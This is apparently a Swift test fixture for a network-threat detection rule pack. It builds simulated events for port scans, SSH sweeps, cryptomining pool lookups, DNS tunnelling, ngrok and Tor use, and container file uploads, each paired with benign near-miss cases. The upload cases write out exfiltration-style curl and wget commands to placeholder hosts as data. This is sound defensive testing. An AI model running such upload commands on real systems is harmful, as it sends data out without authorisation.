import Events

extension PackCase {
    private static func label(_ n: Int) -> String { "abcdefghijklmnopqrstuvwxyz0123456789abcdefghij\(n)" }

    static let network: [PackCase] = [
        PackCase(series: "Port scan") {
            [(1...50).map { EventKit("/usr/bin/nmap").connect("127.0.0.1", UInt16($0), after: UInt64($0)) }]
        } twins: {
            [
                (1...200).map { EventKit("/app/x").connect("10.1.1.1", 443, after: UInt64($0)) }, (1...49).map { EventKit("/usr/bin/nmap").connect("127.0.0.1", UInt16($0), after: UInt64($0)) },
                (1...100).map { EventKit("/usr/bin/prometheus").connect("10.1.1.1", UInt16($0), after: UInt64($0)) }, (1...60).map { EventKit("/usr/bin/x").connect("10.1.1.1", UInt16($0), after: UInt64($0) * 1_000_000_000) },
            ]
        },
        PackCase(series: "Network sweep") {
            [(1...30).map { EventKit("/tmp/x").connect("10.1.1.\($0)", 22, after: UInt64($0)) }]
        } twins: {
            [(1...60).map { EventKit("/app/x").connect("10.1.1.\($0)", 443, after: UInt64($0)) }, (1...60).map { EventKit("/usr/bin/ansible").connect("10.1.1.\($0)", 22, after: UInt64($0)) }, (1...60).map { _ in EventKit("/app/x").connect("10.1.1.1", 5432) }]
        },
        PackCase("Mining pool looked up") {
            [EventKit("/tmp/x").dns("pool.supportxmr.com"), EventKit.inside("/tmp/x").dns("xmr-eu1.nanopool.org")]
        } twins: {
            [EventKit("/tmp/x").dns("pool.ntp.org"), EventKit("/tmp/x").dns("supportxmr.com.example.org")]
        },
        PackCase("Mining port contacted from a container") {
            [EventKit.inside("/tmp/x").connect("203.0.113.9", 3333), EventKit.inside("/usr/bin/python3").connect("203.0.113.9", 14444)]
        } twins: {
            [EventKit.inside("/app/server").connect("203.0.113.9", 3333), EventKit("/tmp/x").connect("203.0.113.9", 3333), EventKit.inside("/tmp/x").connect("203.0.113.9", 443), EventKit.inside("/usr/bin/python3").connect("127.0.0.1", 5555)]
        },
        PackCase(series: "Data tunnelled through DNS") {
            [(0..<50).map { EventKit("/tmp/x").dns(label($0) + ".t.example.com", type: 16, after: UInt64($0)) }]
        } twins: {
            [
                (0..<100).map { EventKit("/app/x").dns("host\($0).example.com", after: UInt64($0)) }, (0..<100).map { _ in EventKit("/app/x").dns(label(1) + ".example.com") },
                (0..<100).map { EventKit("/app/x").dns(label($0) + ".cloudfront.net", after: UInt64($0)) }, (0..<40).map { EventKit("/app/x").dns(label($0) + ".example.com", after: UInt64($0)) },
            ]
        },
        PackCase("Tunnel to the outside") {
            [EventKit.run("/usr/local/bin/ngrok", "ngrok", "http", "80"), EventKit.inside("/tmp/x").dns("abc.trycloudflare.com")]
        } twins: {
            [EventKit.run("/usr/bin/ssh", "ssh", "host"), EventKit("/tmp/x").dns("www.cloudflare.com")]
        },
        PackCase("Tor used") {
            [EventKit.run("/usr/bin/tor"), EventKit("/tmp/x").dns("abcdef.onion")]
        } twins: {
            [EventKit.run("/usr/bin/torch"), EventKit("/tmp/x").dns("onion.example.com")]
        },
        PackCase("SSH to an unusual port") {
            [EventKit("/usr/bin/ssh").connect("203.0.113.9", 8443), EventKit("/usr/bin/ssh").connect("127.0.0.1", 2222)]
        } twins: {
            [EventKit("/usr/bin/ssh").connect("203.0.113.9", 22), EventKit("/usr/bin/ssh", "/usr/bin/git").connect("203.0.113.9", 443), EventKit("/usr/bin/curl").connect("203.0.113.9", 8443)]
        },
        PackCase("Files uploaded from a container") {
            [EventKit.run("/usr/bin/curl", "curl", "-F", "file=@/tmp/x.tgz", "http://127.0.0.1/", inside: true), EventKit.run("/usr/bin/wget", "wget", "--post-file=/tmp/x", "http://x", inside: true)]
        } twins: {
            [EventKit.run("/usr/bin/curl", "curl", "-fsS", "http://127.0.0.1/health", inside: true), EventKit.run("/usr/bin/curl", "curl", "-F", "file=@/tmp/x.tgz", "http://127.0.0.1/")]
        },
    ]
}
